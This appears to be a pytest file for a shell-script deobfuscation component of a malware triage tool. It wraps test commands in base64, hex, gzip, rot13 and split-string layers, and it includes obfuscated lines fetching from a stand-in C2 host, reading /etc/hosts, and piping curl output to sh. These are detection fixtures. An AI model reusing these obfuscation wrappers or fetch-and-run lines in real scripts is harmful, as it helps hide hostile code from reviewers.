"""Shell scripts: whatever is decoded and handed on comes out; ordinary scripts carry nothing."""

import base64
import codecs
import gzip
import tracemalloc
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.triage.allowance import Allowance
from vedette.triage.kinds import Kind
from vedette.triage.layers import peel
from vedette.triage.peeled import Peeled
from vedette.triage.sample import Sample

INNER = "id; echo 'done' > /tmp/x"


def layers(text: str | bytes, kind: Kind = Kind.SHELL) -> list[Peeled]:
    data = text.encode() if isinstance(text, str) else text
    return list(peel(Sample(name="a.sh", data=data, kind=kind), Allowance()))


def carried(text: str | bytes) -> list[bytes]:
    return [one.data for one in layers(text) if not one.whole]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def in_base64(text: str) -> str:
    return f"echo {b64(text)} | base64 -d | sh\n"


def in_eval(text: str) -> str:
    return f'eval "$(echo {b64(text)} | base64 --decode)"\n'


def in_hex(text: str) -> str:
    return f"printf %s {text.encode().hex()} | xxd -r -p | bash\n"


def in_gzip(text: str) -> str:
    return (
        f"echo {base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()} | base64 -d | gunzip | sh\n"
    )


def in_reverse(text: str) -> str:
    return f"x={b64(text)[::-1]}\necho $x | rev | base64 -d | bash -\n"


def in_rotation(text: str) -> str:
    turned = codecs.encode(b64(text), "rot13")
    return f"printf %s '{turned}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | base64 -d | sh\n"


def in_ansi(text: str) -> str:
    return "eval $'" + "".join(f"\\x{one:02x}" for one in text.encode()) + "'\n"


def in_here_string(text: str) -> str:
    return f"bash <<< \"$(base64 -d <<< '{b64(text)}')\"\n"


def in_here_document(text: str) -> str:
    return f"base64 -d <<'EOF' | sh\n{b64(text)}\nEOF\n"


def in_process(text: str) -> str:
    return f"source <(echo '{b64(text)}' | base64 -d)\n"


def in_pieces(text: str) -> str:
    whole = b64(text)
    a, b = whole[: len(whole) // 2], whole[len(whole) // 2 :]
    return f'p={b}\nq={a}\nsh -c "$(echo ${{q}}${{p}} | base64 -d)"\n'


def in_slices(text: str) -> str:
    return f"v='{b64(text)}'\necho ${{v:0:4}}${{v:4}} | openssl base64 -d -A | sh\n"


WRAPS: list[Callable[[str], str]] = [
    in_base64, in_eval, in_hex, in_gzip, in_reverse, in_rotation, in_ansi, in_here_string, in_here_document,
    in_process, in_pieces, in_slices,
]  # fmt: skip


def came_off(data: bytes, inner: str) -> bool:
    """A command substitution and a here-string change line ends at the end, nothing else."""
    return data.decode().rstrip("\n") == inner.rstrip("\n")


@pytest.mark.parametrize("wrap", WRAPS)
def test_every_cover_comes_off(wrap: Callable[[str], str]) -> None:
    found = carried(wrap(INNER))
    assert len(found) == 1
    assert came_off(found[0], INNER)


def assert_off(wraps: list[Callable[[str], str]]) -> None:
    expected = [INNER]
    for wrap in wraps:
        expected.append(wrap(expected[-1]))
    text: str | bytes = expected.pop()
    while expected:
        found = [one for one in carried(text) if came_off(one, expected[-1])]
        assert found
        text = found[0]
        expected.pop()


@given(st.lists(st.sampled_from(WRAPS), min_size=1, max_size=4))
def test_covers_over_one_another_come_off_one_by_one(wraps: list[Callable[[str], str]]) -> None:
    assert_off(wraps)


@pytest.mark.parametrize("number", range(12))
def test_one_to_six_layers_are_recovered_exactly(number: int) -> None:
    turned = WRAPS[number % len(WRAPS) :] + WRAPS
    assert_off(turned[: 1 + number % 6])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "c'u'rl -s http://c2.invalid/a; w\\h\\oami; ${x}{cat,/etc/hosts}",
            b"curl -s http://c2.invalid/a; whoami",
        ),
        ("a=xcurlx; ${a:1:4} http://c2.invalid/a", b"curl http://c2.invalid/a"),
        ("n=cmd; cmd=whoami; ${!n}", b"; whoami"),
        ("$(printf '\\x69\\x64') ; cat${IFS}/etc/hosts", b"id ; cat /etc/hosts"),
    ],
)
def test_words_become_readable(text: str, expected: bytes) -> None:
    (whole,) = [one for one in layers(text) if one.whole]
    assert expected in whole.data


def test_a_loop_of_codes_is_followed() -> None:
    text = 'for c in 69 64 20 2d 75; do s=$s$(printf "\\\\x$c"); done; eval "$s"'
    assert carried(text) == [b"id -u"]


@pytest.mark.parametrize(
    ("program", "kind"), [("python3 -c", Kind.PYTHON), ("perl -e", Kind.PERL), ("node -e", Kind.JAVASCRIPT)]
)
def test_code_of_other_languages_comes_out(program: str, kind: Kind) -> None:
    code = "import socket; exec(1) # and more of it, so that it is worth a look by itself"
    (layer,) = layers(f'{program} "{code}"')
    assert (layer.kind, layer.data) == (kind, code.encode())


def test_an_archive_behind_a_script_comes_out() -> None:
    archive = gzip.compress(b"payload", mtime=0)
    (layer,) = layers(b"#!/bin/sh\ntail -n +4 $0 | tar xz\nexit 0\n" + archive)
    assert (layer.data, layer.kind) == (archive, None)
    assert layer.place is not None
    assert layer.place.line == 4


def test_text_behind_a_mark_comes_out() -> None:
    text = f"#!/bin/sh\nsed '1,/^__END__$/d' \"$0\" | base64 -d | sh\nexit\n__END__\n{b64(INNER)}\n"
    assert carried(text) == [INNER.encode()]


@pytest.mark.parametrize(
    "text",
    [
        "curl -s https://get.example/i | sh\n",
        'x=$(uname -m)\ncase "$x" in x86_64) y=1;; esac\nprintf "%s\\n" "$x"\n',
        "tar xzf a.tar.gz && cd a && ./configure && make\n",
        "python3 -c 'print(1)'\nsh -c 'echo a'\n",
        "openssl enc -d -aes-256-cbc -k secret <<< 'U2FsdGVk' | sh\n",
    ],
)
def test_ordinary_scripts_and_ciphers_carry_nothing(text: str) -> None:
    assert layers(text) == []


def test_a_script_that_hands_itself_on_is_no_layer() -> None:
    assert carried('cat "$0" | sh\n') == []


@pytest.mark.parametrize("doubled", ["a=$a$a", 'a="$a$a"', "a+=$a", "a=${a}${a/x/xx}"])
def test_what_doubles_with_every_line_ends(doubled: str) -> None:
    assert layers(f"a=$'\\x78'\n{f'{doubled}; ' * 60}\necho $a | base64 -d | sh\n") is not None


@pytest.mark.parametrize("word", ["{1..9}" * 7, "{1..4000}" + "A" * 20_000, "{a,b}" * 20])
def test_braces_that_stand_for_very_much_stand_for_nothing(word: str) -> None:
    tracemalloc.start()
    try:
        assert layers(f"eval {word}\n") == []
        assert tracemalloc.get_traced_memory()[1] < 32 << 20
    finally:
        tracemalloc.stop()


@given(st.text(alphabet="$(){}[]`'\"\\|&;<>!#*?~=:/%^,@ \nabx0149", max_size=120))
def test_no_text_breaks_it(text: str) -> None:
    layers(f"eval {text}")
